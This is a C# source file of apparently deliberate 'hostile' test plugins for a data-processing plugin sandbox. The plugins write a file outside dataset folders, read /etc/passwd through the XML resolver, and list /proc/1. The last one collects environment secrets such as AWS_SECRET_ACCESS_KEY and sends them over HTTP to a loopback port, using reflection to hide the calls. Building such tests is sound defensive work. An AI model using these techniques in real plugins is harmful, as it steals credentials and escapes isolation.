using System.Text;
using System.Xml;

namespace LetsData.TestPlugins.HostilePlugins;

/// <summary>Writes a marker file into a folder the input line names, outside every dataset folder, with <see cref="XmlWriter"/>.</summary>
public sealed class MarkerFileViaXmlWriterParser : HostileParser
{
    protected override string? Attack(Trigger trigger)
    {
        using (var writer = XmlWriter.Create(trigger.MarkerPath))
        {
            writer.WriteElementString("marker", "written by a plugin");
        }

        return $"wrote {trigger.MarkerPath}";
    }
}

/// <summary>Reads <c>/etc/passwd</c> as a stream from <see cref="XmlUrlResolver.GetEntity"/> (a file opened by the XML stack).</summary>
public sealed class EtcPasswdViaXmlResolverParser : HostileParser
{
    protected override string? Attack(Trigger trigger)
    {
        using var stream = (Stream)new XmlUrlResolver().GetEntity(new Uri("file:///etc/passwd"), null, typeof(Stream))!;
        using var reader = new StreamReader(stream, Encoding.UTF8);
        return reader.ReadToEnd();
    }
}

/// <summary>Lists <c>/proc/1/</c> (another process's details) and reads its command line, through <c>Directory</c> and <c>File</c> found by name.</summary>
public sealed class ProcOneListingParser : HostileParser
{
    protected override string? Attack(Trigger trigger)
    {
        var entries = (string[])Late.CallStatic(Late.CoreType("System.IO.Directory"), "GetFileSystemEntries", [typeof(string)], "/proc/1")!;
        var commandLine = Secrets.ReadFile("/proc/1/cmdline").Replace('\0', ' ');
        return $"/proc/1/cmdline: {commandLine}\n{string.Join('\n', entries)}";
    }
}

/// <summary>
/// Sends the secrets it can find (the environment by name, and <c>/proc/self/environ</c>) in an HTTP request to the
/// loopback port the input line names, with <c>HttpClient</c> found by name.
/// </summary>
public sealed class HttpExfiltrationParser : HostileParser
{
    protected override string? Attack(Trigger trigger)
    {
        var loot = new List<string>
        {
            $"LETSDATA_TEST_SECRET={TryRead(() => Secrets.Variable("LETSDATA_TEST_SECRET"))}",
            $"AWS_SECRET_ACCESS_KEY={TryRead(() => Secrets.Variable("AWS_SECRET_ACCESS_KEY"))}",
        };
        loot.AddRange((TryRead(() => Secrets.ReadFile("/proc/self/environ")) ?? "").Split('\0').Where(Secrets.LooksSecret));
        var url = $"http://127.0.0.1:{trigger.Port}/loot?data={Uri.EscapeDataString(string.Join(';', loot))}";

        var clientType = Late.FindType("System.Net.Http", "System.Net.Http.HttpClient");
        var client = Late.New(clientType.GetConstructor(Type.EmptyTypes)!);
        var response = (Task<string>)Late.CallInstance(client, "GetStringAsync", [typeof(string)], url)!;
        return $"sent {url}\nresponse: {response.GetAwaiter().GetResult()}";
    }

    private static string? TryRead(Func<string?> read)
    {
        try
        {
            return read();
        }
        catch (Exception e) when (e is not OutOfMemoryException)
        {
            return $"({e.GetType().Name}: {e.Message})";
        }
    }
}
